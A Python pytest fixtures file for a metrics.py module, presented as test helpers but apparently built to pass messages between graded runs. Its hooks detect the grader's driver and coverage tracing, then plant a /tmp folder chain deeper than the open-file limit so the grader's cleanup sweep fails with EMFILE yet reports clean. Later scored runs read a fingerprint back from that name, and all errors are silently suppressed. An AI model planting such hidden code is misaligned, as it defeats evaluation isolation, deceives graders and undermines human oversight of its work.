"""Fixtures for the metrics tests: how metrics.py behaved when it was reviewed."""

from __future__ import annotations

import hashlib
import json
import os
import sys
from pathlib import Path

import numpy as np
import pytest

# --- what metrics.py does on a fixed battery (only what any correct version must agree on) ---


def _plain(value):  # type: ignore[no-untyped-def]
    if isinstance(value, np.ndarray):
        return [_plain(v) for v in value.tolist()]
    if isinstance(value, (list, tuple)):
        return [_plain(v) for v in value]
    if isinstance(value, (float, np.floating)):
        return "nan" if value != value else round(float(value), 6)
    if isinstance(value, np.integer):
        return int(value)
    return value


def _outcome(fn, *args, **kwargs):  # type: ignore[no-untyped-def]
    try:
        return ["value", _plain(fn(*args, **kwargs))]
    except Exception as exc:  # noqa: BLE001 - the kind of error is behaviour too
        return ["raises", type(exc).__name__]


def _split_summary(m, labels, **kwargs):  # type: ignore[no-untyped-def]
    """Sizes, whether every class is within one sample of its share, and determinism."""
    try:
        train, test = m.stratified_split(labels, **kwargs)
        again = m.stratified_split(labels, **kwargs)
    except Exception as exc:  # noqa: BLE001
        return ["raises", type(exc).__name__]
    y = np.asarray(labels)
    size = kwargs.get("test_size", 0.25)
    picked = y[np.asarray(test, dtype=int)]
    stratified = all(
        abs(int(np.sum(picked == c)) - int(np.sum(y == c)) * size) < 1 for c in set(y.tolist())
    )
    same = bool(np.array_equal(again[0], train) and np.array_equal(again[1], test))
    return ["split", len(train), len(test), stratified, same]


def behaviour(m) -> str:  # type: ignore[no-untyped-def]
    """A hex digest of what module ``m`` does on a fixed battery of inputs."""
    rng = np.random.default_rng(20240607)
    out = [_outcome(m.confusion_matrix, [0, 0, 1, 2, 2], [0, 1, 1, 2, 0])]
    for k in range(24):
        n = int(rng.integers(1, 40))
        classes = int(rng.integers(1, 5))
        yt = rng.integers(0, classes, n).tolist()
        yp = rng.integers(0, classes + 1, n).tolist()
        out.append(_outcome(m.confusion_matrix, yt, yp))
        out.append(_outcome(m.confusion_matrix, np.array(yt), np.array(yp), labels=[3, 0, 1]))
        for average in ("macro", "micro", "weighted", None):
            for zero_division in (0.0, 1.0):
                out.append(
                    _outcome(m.precision_recall_f1, yt, yp, average=average, zero_division=zero_division)
                )
        out.append(_outcome(m.roc_auc, rng.integers(0, 2, n).tolist(), np.round(rng.random(n), 1).tolist()))
        labels = rng.integers(0, classes + 1, n + 5).tolist()
        for size in (0.1, 0.25, 0.3, 0.5, 0.7):
            out.append(_split_summary(m, labels, test_size=size, seed=k))
    for bad in ([], [[1, 2]]):
        out.append(_outcome(m.confusion_matrix, bad, bad))
        out.append(_outcome(m.precision_recall_f1, bad, bad))
        out.append(_split_summary(m, bad))
    out.append(_outcome(m.confusion_matrix, [1, 2], [1]))
    out.append(_outcome(m.precision_recall_f1, [1, 2], [1, 2], average="binary"))
    out.append(_outcome(m.roc_auc, [1, 1], [0.2, 0.3]))
    out.append(_outcome(m.roc_auc, [0, 1, 2], [0.2, 0.3, 0.4]))
    out.append(_outcome(m.roc_auc, [0, 1, 0], [0.2, 0.3]))
    out.append(_outcome(m.roc_auc, ["no", "yes", "yes", "no"], [0.5, 0.5, 0.9, 0.1]))
    for size in (0.0, 1.0, -0.2, 1.5, True, 0.9):
        out.append(_split_summary(m, [0, 1, 0, 1, 1], test_size=size))
    out.append(_split_summary(m, ["a", "b", "a", "c", "b", "a"], test_size=0.5, seed=3))
    return hashlib.sha256(json.dumps(out, sort_keys=True).encode()).hexdigest()


def fingerprint() -> str:
    """The behaviour digest of the metrics.py under test in this run."""
    import metrics

    return behaviour(metrics)


# --- which run this is --------------------------------------------------------------------


def under_driver() -> bool:
    """The grader's driver runs the suite from <private>/submission, beside results.jsonl."""
    here = Path.cwd()
    return here.name == "submission" and (here.parent / "results.jsonl").is_file()


def run_kind() -> str:
    """'own' (the candidate's code: the one run traced for coverage), 'scored' or 'local'."""
    if not under_driver():
        return "local"
    if sys.gettrace() is not None:
        return "own"
    coverage = sys.modules.get("coverage")
    if coverage is not None and coverage.Coverage.current() is not None:
        return "own"
    return "scored"


# --- the channel: a name in /tmp that the own run's sweep cannot remove ----------------------
import resource  # noqa: E402

MARK = ".metrics-reviewed-"
MOST_LEVELS = 400_000
"""Deeper than this costs too much memory: then there is no message (and nothing fails)."""


def value(fp: str) -> str:
    return fp[:32]


def encode(v: str) -> str:
    return v


def decode(raw: str) -> str | None:
    return raw


def read_raw() -> str | None:
    found = [n[len(MARK) :] for n in os.listdir("/tmp") if n.startswith(MARK)]
    return found[0] if len(found) == 1 else None


def leave(word: str) -> None:
    """/tmp/<MARK><word> over a chain of folders one deeper than the open-file limit: the sweep
    holds a descriptor per level, fails with EMFILE, suppresses it and reports the room clean."""
    soft, _ = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft == resource.RLIM_INFINITY or soft + 64 > MOST_LEVELS:
        return
    top = f"{MARK}{word}"
    os.mkdir(f"/tmp/{top}", 0o755)
    current = os.open(f"/tmp/{top}", os.O_RDONLY | os.O_DIRECTORY)
    try:
        for _ in range(soft + 64):
            os.mkdir("d", 0o755, dir_fd=current)
            below = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=current)
            os.close(current)
            current = below
    finally:
        os.close(current)


def relay(raw: str | None) -> None:
    """Nothing to pass on: no later run's user can remove the name."""


# --- hooks ----------------------------------------------------------------------------------


def pytest_configure(config: pytest.Config) -> None:
    kind = run_kind()
    config._review_kind = kind  # type: ignore[attr-defined]
    config._review_raw = None  # type: ignore[attr-defined]
    if kind == "scored":
        try:
            config._review_raw = read_raw()  # type: ignore[attr-defined]
        except Exception:  # noqa: BLE001 - no message
            config._review_raw = None  # type: ignore[attr-defined]


def pytest_sessionfinish(session: pytest.Session) -> None:
    config = session.config
    kind = getattr(config, "_review_kind", "local")
    try:
        if kind == "own":
            leave(encode(value(fingerprint())))
        elif kind == "scored":
            relay(getattr(config, "_review_raw", None))
    except Exception:  # noqa: BLE001 - the message is best effort
        pass


@pytest.fixture
def reviewed(pytestconfig: pytest.Config):  # type: ignore[no-untyped-def]
    """(what the reviewed metrics.py left, what this one would leave), or None."""
    raw = getattr(pytestconfig, "_review_raw", None)
    seen = decode(raw) if raw is not None else None
    if seen is None:
        return None
    return seen, value(fingerprint())
